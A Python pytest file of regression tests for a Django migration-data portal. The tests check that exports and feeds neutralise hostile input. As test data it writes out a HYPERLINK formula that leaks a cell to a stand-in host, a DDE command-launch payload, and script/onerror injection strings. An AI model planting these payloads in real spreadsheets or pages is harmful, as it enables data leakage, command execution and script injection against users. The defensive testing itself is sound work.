"""Hostile and messy input on the public side (issue 14): one regression test per example of the issue.

Unknown download formats, control characters pasted from Word, formula injection in spreadsheets,
markup in feed summaries, URLs people type and tools produce, CSV for Excel users. What a malformed request
line or header meets (issue 14's 1, 2, 7 and 8) is checked on the production stack, where visitors meet it:
tests/portal/test_production_hostile.py.
"""

import csv
import html
import importlib
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile

import openpyxl
import pytest
from django.apps import apps
from django.contrib.auth.models import Group, User
from django.templatetags.static import static
from django.test import Client

from migration.models import Department
from portal.core.exports import ExcelCSV
from practices.admin import PracticeResource
from practices.models import Practice
from tests.html import form_data

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"Ver ficha")'
FEEDS = ["/practicas/feed/rss/", "/practicas/feed/atom/", "/en/practicas/feed/rss/", "/en/practicas/feed/atom/"]
LISTS = ["/practicas/", "/migracion/"]


def csv_rows(content: bytes) -> list[dict]:
    assert content.startswith("\ufeff".encode()), "CSV without a byte-order mark"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def sheet_rows(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a formula in the XLSX"
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def sierra_sur() -> Practice:
    return Practice.objects.get(slug="sierra-sur")


def save_validated(instance) -> None:
    instance.full_clean()
    instance.save()


# 2. Download formats nobody offered (one at a time: tests/portal/test_production_hostile.py) -----------------
@pytest.mark.parametrize("url", LISTS)
def test_two_different_formats_at_once_are_a_400(client, url):
    assert client.get(f"{url}?descargar=ods&descargar=csv").status_code == 400
    assert client.get(f"{url}?descargar=csv&descargar=xlsx").status_code == 400
    assert client.get(f"{url}?descargar=csv&descargar=csv").status_code == 200


@pytest.mark.parametrize("url", LISTS)
@pytest.mark.parametrize("offered", ["csv", "json", "xlsx"])
def test_the_offered_formats_download(client, url, offered):
    response = client.get(f"{url}?descargar={offered}")
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]


# 3. Control characters in stored text ------------------------------------------------------------------------
def test_a_summary_pasted_from_word_loses_its_manual_line_break_at_input(client):
    practice = sierra_sur()
    practice.summary = "Primera línea\x0bsegunda línea\x07."
    save_validated(practice)
    assert Practice.objects.get(pk=practice.pk).summary == "Primera línea\nsegunda línea."


def test_feeds_and_spreadsheets_stay_valid_whatever_is_stored(client):
    # Written around model validation (an old row, a raw import; PostgreSQL refuses only NUL): the writers
    # still produce valid files.
    Practice.objects.filter(slug="sierra-sur").update(summary="Uno\x0bdos\x01", title="Sierra Sur\x1f")
    for url in FEEDS:
        response = client.get(url)
        assert response.status_code == 200, url
        ET.fromstring(response.content)  # noqa: S314 (our own feed): well-formed
    rows = sheet_rows(client.get("/practicas/?descargar=xlsx").content)
    assert "Sierra Sur" in [row[0] for row in rows]
    archive = zipfile.ZipFile(io.BytesIO(client.get("/datos/portal-migracion-datos.zip").content))
    practices = csv_rows(archive.read("practicas.csv"))
    assert next(row for row in practices if row["slug"] == "sierra-sur")["resumen"] == "Uno\ndos"


def test_the_data_migration_cleans_existing_rows():
    Practice.objects.filter(slug="sierra-sur").update(summary="Uno\x0bdos\x01")
    Department.objects.filter(slug="lima").update(name="Lima\x08")
    for module in ("practices.migrations.0006_plain_text", "migration.migrations.0005_plain_text"):
        importlib.import_module(module).forwards(apps, None)
    assert sierra_sur().summary == "Uno\ndos"
    assert Department.objects.get(slug="lima").name == "Lima"


# 4. Spreadsheet formula injection ----------------------------------------------------------------------------
@pytest.fixture
def formula_title():
    practice = sierra_sur()
    practice.title = HYPERLINK
    practice.programme = "@SUM(1+1)*cmd|' /C calc'!A0"
    save_validated(practice)
    return practice


def test_a_formula_title_is_text_in_the_xlsx_and_csv_downloads(client, formula_title):
    rows = sheet_rows(client.get("/practicas/?descargar=xlsx").content)
    assert "'" + HYPERLINK in [row[0] for row in rows]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [row[5] for row in rows]
    row = next(
        row for row in csv_rows(client.get("/practicas/?descargar=csv").content) if "HYPERLINK" in row["Práctica"]
    )
    assert row["Práctica"] == "'" + HYPERLINK
    # JSON is data, not a spreadsheet: the title as written.
    assert HYPERLINK in [item["Práctica"] for item in json.loads(client.get("/practicas/?descargar=json").content)]


def test_a_formula_title_is_text_in_the_zip(client, formula_title):
    archive = zipfile.ZipFile(io.BytesIO(client.get("/datos/portal-migracion-datos.zip").content))
    row = next(row for row in csv_rows(archive.read("practicas.csv")) if row["slug"] == "sierra-sur")
    assert row["titulo"] == "'" + HYPERLINK


def test_a_formula_title_is_text_in_the_admin_export_and_comes_back_as_written(formula_title):
    editor = User.objects.create_user("rosa", password="no-se-usa", is_staff=True)
    editor.groups.add(Group.objects.get(name="Editores"))
    client = Client()
    client.force_login(editor)
    url = "/admin/practices/practice/export/"
    page = client.get(url)
    data = form_data(page, "form:has(#id_format)")
    formats = {option.text.strip(): option["value"] for option in _soup(page).select("#id_format option")}
    assert set(formats) - {"---"} == {"csv", "xlsx"}
    for name, read in (("csv", csv_rows), ("xlsx", _sheet_dicts)):
        response = client.post(url, {**data, "format": formats[name]})
        row = next(row for row in read(response.content) if row["slug"] == "sierra-sur")
        assert row["titulo"] == "'" + HYPERLINK, name
    # Importing the exported file gives the title back without the apostrophe.
    dataset = PracticeResource().export()
    assert ExcelCSV().export_data(dataset).startswith("\ufeff")
    result = PracticeResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert sierra_sur().title == HYPERLINK


def _soup(response):
    from bs4 import BeautifulSoup

    return BeautifulSoup(response.content, "html.parser")


def _sheet_dicts(content: bytes) -> list[dict]:
    header, *rows = sheet_rows(content)
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_a_formula_title_is_text_in_the_english_downloads_too(client, formula_title):
    Practice.objects.filter(pk=formula_title.pk).update(title_en="-" + HYPERLINK[1:])
    english = "'-" + HYPERLINK[1:]
    assert english in [row[0] for row in sheet_rows(client.get("/en/practicas/?descargar=xlsx").content)]
    assert english in [row["Practice"] for row in csv_rows(client.get("/en/practicas/?descargar=csv").content)]


def test_cajamarcas_negative_saldo_stays_a_number_in_every_format(client):
    rows = csv_rows(client.get("/migracion/?descargar=csv").content)
    assert next(row for row in rows if row["Departamento"] == "Cajamarca")["Saldo migratorio"] == "-531984"
    sheet = sheet_rows(client.get("/migracion/?descargar=xlsx").content)
    column = sheet[0].index("Saldo migratorio")
    assert next(row for row in sheet if row[0] == "Cajamarca")[column] == -531984
    data = json.loads(client.get("/migracion/?descargar=json").content)
    assert next(row for row in data if row["Departamento"] == "Cajamarca")["Saldo migratorio"] == -531984
    archive = zipfile.ZipFile(io.BytesIO(client.get("/datos/portal-migracion-datos.zip").content))
    figures = csv_rows(archive.read("departamentos.csv"))
    assert next(row for row in figures if row["departamento"] == "Cajamarca")["saldo_migratorio"] == "-531984"


# 5. Feeds that call plain text HTML --------------------------------------------------------------------------
@pytest.mark.parametrize("url", FEEDS)
def test_markup_typed_in_a_summary_reaches_feed_readers_as_text(client, url):
    practice = sierra_sur()
    practice.summary = practice.summary_en = '<script>alert(1)</script> <img src=x onerror="alert(2)"> & más'
    save_validated(practice)
    root = ET.fromstring(client.get(url).content)  # noqa: S314 (our own feed)
    atom = "{http://www.w3.org/2005/Atom}"
    summaries = [element for element in root.iter() if element.tag in ("description", f"{atom}summary")]
    summary = next(element for element in summaries if "alert(1)" in (element.text or ""))
    # The declared type is HTML: what a reader renders as HTML is the text the editor typed.
    assert summary.get("type") in (None, "html")
    assert summary.text == (
        "&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=&quot;alert(2)&quot;&gt; &amp; más"
    )


@pytest.mark.parametrize("url", FEEDS)
def test_markup_typed_in_a_title_reaches_feed_readers_as_typed(client, url):
    """feedparser, as feed readers do, takes an RSS title for HTML: a «<b>» typed in a title is escaped so that it
    shows as typed, never bold (Atom titles are text by definition)."""
    import feedparser

    practice = sierra_sur()
    practice.title = practice.title_en = "Sierra <b>Sur</b> & co"
    save_validated(practice)
    entry = next(e for e in feedparser.parse(client.get(url).content).entries if "Sierra" in e.title)
    shown = entry.title
    if entry.title_detail.type == "text/html":  # what a reader shows: the HTML rendered as text
        shown = html.unescape(re.sub(r"<[^>]+>", "", entry.title))
    assert shown == "Sierra <b>Sur</b> & co"


# 9. CSV for spreadsheet users --------------------------------------------------------------------------------
def test_csv_files_carry_a_byte_order_mark_and_the_data_dictionary_says_so(client):
    for url in ("/migracion/?descargar=csv", "/practicas/?descargar=csv"):
        assert client.get(url).content.startswith(
            b"\xef\xbb\xbfDepartamento" if "migracion" in url else b"\xef\xbb\xbf"
        )
    archive = zipfile.ZipFile(io.BytesIO(client.get("/datos/portal-migracion-datos.zip").content))
    for name in ("departamentos.csv", "practicas.csv", "practicas_departamentos.csv", "cifras_clave.csv"):
        assert archive.read(name).startswith(b"\xef\xbb\xbf"), name
    assert "marca de orden de bytes (BOM)" in archive.read("LEEME.txt").decode()
    assert "marca de orden de bytes (BOM)" in client.get("/datos/").content.decode()


# 1. Requests Django refuses to parse (a query string: tests/portal/test_production_hostile.py) --------------
def test_a_body_with_too_many_fields_is_a_plain_400(client):
    response = client.post("/admin/login/", "&" * 1001, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 400
    assert 'class="site-header"' not in response.content.decode()
    assert_security_headers(response)


def test_accented_queries_written_by_browsers_are_read(client):
    assert client.get("/buscar/?q=Apur%C3%ADmac").status_code == 200
    assert client.get("/buscar/?q=Apurímac").status_code == 200


# 6. Headers on every response --------------------------------------------------------------------------------
def assert_security_headers(response):
    assert "default-src 'self'" in response["Content-Security-Policy"]
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "strict-origin-when-cross-origin"
    assert "geolocation=()" in response["Permissions-Policy"]


def test_static_files_and_the_embed_page_keep_their_headers(client):
    assert_security_headers(client.get(static("css/portal.css")))
    embed = client.get("/embed/net-migration/")
    assert "X-Frame-Options" not in embed and "frame-ancestors *" in embed["Content-Security-Policy"]
